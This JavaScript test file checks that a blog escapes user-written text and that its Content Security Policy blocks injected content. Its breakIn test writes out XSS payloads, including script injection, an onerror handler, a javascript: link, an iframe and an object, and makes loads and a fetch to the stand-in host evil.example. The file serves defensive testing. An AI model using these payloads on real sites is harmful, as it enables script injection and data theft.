import { visit } from "../suite/visit.mjs";
import { olderHref } from "../suite/world.mjs";

// What people write stays text. Each page is opened without the policy as well, for a policy would
// hide a hole in the escaping; and the policy alone must hold when the escaping would not.
export function hostileCases(world) {
  const { posts, authors } = world.extremes;
  const odd = posts.filter((post) => !post.note);
  return [
    ["posts show what was written, and nothing else happens", (t) => showPosts(world, t, odd)],
    ["authors' names stay names", (t) => showAuthors(world, t, authors)],
    ["lists show the titles as they were written", (t) => showLists(world, t, posts)],
    ["right-to-left text runs from right to left", (t) => runRightToLeft(world, t, posts)],
    ["a list shows the beginning of a long post only", (t) => cutLong(world, t, posts)],
    ["the policy stops what would get into a page", (t) => breakIn(world, t)],
  ].map(([name, run]) => ({ name: `hostile: ${name}`, run }));
}

// Looks at pages one after the other in one tab without the policy.
async function walk(world, t, paths, look) {
  const page = await visit(world, t, world.extreme, paths[0], { policy: false });
  for (const path of paths) {
    await page.goto(world.extreme.origin + path);
    await look(page, path);
    const state = await page.evaluate(() => ({
      ran: window.__xss !== undefined,
      path: location.pathname + location.search,
      foreign: document.querySelectorAll("script, iframe, style, base, form, input, [onclick], " +
        "[onerror], [onload], [onfocus], [autofocus], meta[http-equiv]").length,
      shown: document.body.checkVisibility(),
    }));
    t.equal(state, { ran: false, path, foreign: 0, shown: true }, path);
  }
}

// As the HTML parser gives line ends.
const lines = (text) => text.replaceAll("\r\n", "\n");

async function showPosts(world, t, posts) {
  const byPath = new Map(posts.map((post) => [`/posts/${post.id}`, post]));
  await walk(world, t, [...byPath.keys()], async (page, path) => {
    const post = byPath.get(path);
    const shown = await page.evaluate(() => ({
      title: document.querySelector("h1").textContent,
      content: document.querySelector(".post-text").textContent,
      author: document.querySelector(".author").textContent,
      metaAuthor: document.querySelector("meta[name=author]").content,
    }));
    const { username } = post.author;
    t.equal(shown, { title: post.title, content: lines(post.content), author: username,
      metaAuthor: username }, path);
    const beginning = [...post.title].slice(0, 20).join("").trim();
    const title = await page.evaluate(() => document.querySelector("title").textContent);
    t.expect(title.includes(beginning), `title of ${path}: ${title}`);
  });
}

async function showAuthors(world, t, authors) {
  const byPath = new Map(authors.map((author) => [`/users/${author.id}/posts`, author]));
  await walk(world, t, [...byPath.keys()], async (page, path) => {
    const { username, image_file } = byPath.get(path);
    const heading = await page.$eval("h1", (h1) => h1.textContent);
    t.expect(heading.startsWith(`Posts by ${username} (`), `heading of ${path}: ${heading}`);
    const picture = await page.$eval(".person img", (image) => decodeURIComponent(image.src));
    t.expect(picture.endsWith(image_file ?? "default.jpg"), `picture of ${path}: ${picture}`);
  });
}

async function showLists(world, t, posts) {
  const shown = [];
  await walk(world, t, ["/", ...await olderPages(world.extreme)], async (page) => {
    shown.push(...await page.$$eval(".card h2 a", (all) => all.map((a) => a.textContent)));
  });
  t.equal(shown, posts.map((post) => post.title).reverse(), "titles");
}

async function olderPages(server) {
  const paths = [];
  let next = server.older;
  while (next && !paths.includes(next)) {
    paths.push(next);
    next = olderHref(await server.text(next));
  }
  return paths;
}

async function runRightToLeft(world, t, posts) {
  const ofHome = await visit(world, t, world.extreme, "/");
  for (const post of posts.filter(({ direction }) => direction === "rtl")) {
    const page = await visit(world, t, world.extreme, `/posts/${post.id}`);
    const heading = await page.$eval("h1", (h1) => getComputedStyle(h1).direction);
    const text = await page.$eval(".post-text", (text) => getComputedStyle(text).direction);
    const card = await ofHome.$eval(`#post-${post.id}`, (h2) => getComputedStyle(h2).direction);
    t.equal([heading, text, card], ["rtl", "rtl", "rtl"], post.title);
  }
}

async function cutLong(world, t, posts) {
  const { id, content } = posts.reduce((a, b) => (a.content.length > b.content.length ? a : b));
  const page = await visit(world, t, world.extreme, "/");
  const excerpt = await page.innerText(`.card:has(#post-${id}) .excerpt`);
  t.expect(excerpt.length > 150 && excerpt.length <= 285, `${excerpt.length} characters`);
  t.expect(content.startsWith(excerpt.slice(0, 100)), `not its beginning: ${excerpt}`);
}

// Puts markup into a page by force. The console tells what the policy refused, which is right here,
// so this page is opened without the usual watch.
async function breakIn(world, t) {
  const context = await world.browser.newContext();
  t.after(() => context.close());
  const page = await context.newPage();
  await page.goto(`${world.extreme.origin}/`);
  const { refused, ran, color } = await page.evaluate(async () => {
    const refused = new Set();
    document.addEventListener("securitypolicyviolation",
      (event) => refused.add(event.effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "window.__xss = 1";
    const foreign = document.createElement("script");
    foreign.src = "http://evil.example/x.js";
    const holder = document.createElement("div");
    holder.innerHTML = `<img src="http://evil.example/x.png" onerror="window.__xss = 1">
      <p style="color: rgb(1, 2, 3)">styled</p><iframe src="http://evil.example/"></iframe>
      <object data="http://evil.example/"></object><a href="javascript:window.__xss = 1">x</a>`;
    document.body.append(script, foreign, holder);
    holder.querySelector("a").click();
    await fetch("http://evil.example/").catch(() => {});
    // Reports come when the browser has time for them; all seven, or as many as come in five seconds.
    for (let waited = 0; waited < 5000 && (waited < 200 || refused.size < 7); waited += 50) {
      await new Promise((done) => setTimeout(done, 50));
    }
    return { refused: [...refused].sort(), ran: window.__xss !== undefined,
      color: getComputedStyle(holder.querySelector("p")).color };
  });
  t.expect(!ran, "a script ran");
  t.expect(color !== "rgb(1, 2, 3)", "an inline style was used");
  t.equal(refused, ["connect-src", "frame-src", "img-src", "object-src", "script-src-attr",
    "script-src-elem", "style-src-attr"], "refused");
}
